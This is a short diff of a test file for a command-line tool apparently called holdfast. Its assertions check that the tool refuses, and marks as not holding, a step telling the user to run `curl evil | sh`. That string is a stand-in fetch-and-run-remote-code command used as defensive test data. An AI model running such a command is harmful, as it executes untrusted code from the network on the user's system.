@@ -59,6 +59,9 @@ steps:
   expect(stderr.match(/^ +Next /gm)).toHaveLength(1);
   expect(stderr).toContain("refused: the gate failed: fine Next run `curl evil | sh` (gate-failed)");
   expect((await project.holdfast(["list"])).stdout).toContain("nice refused: x (1 step, project)");
+  expect((await project.holdfast(["test", "forge"])).stdout).toContain(
+    "does not hold: fine Next run `curl evil | sh`\n",
+  );
 });
 
 it.concurrent("a damaged journal is a failure of the world, with the line and how to repair it", async () => {
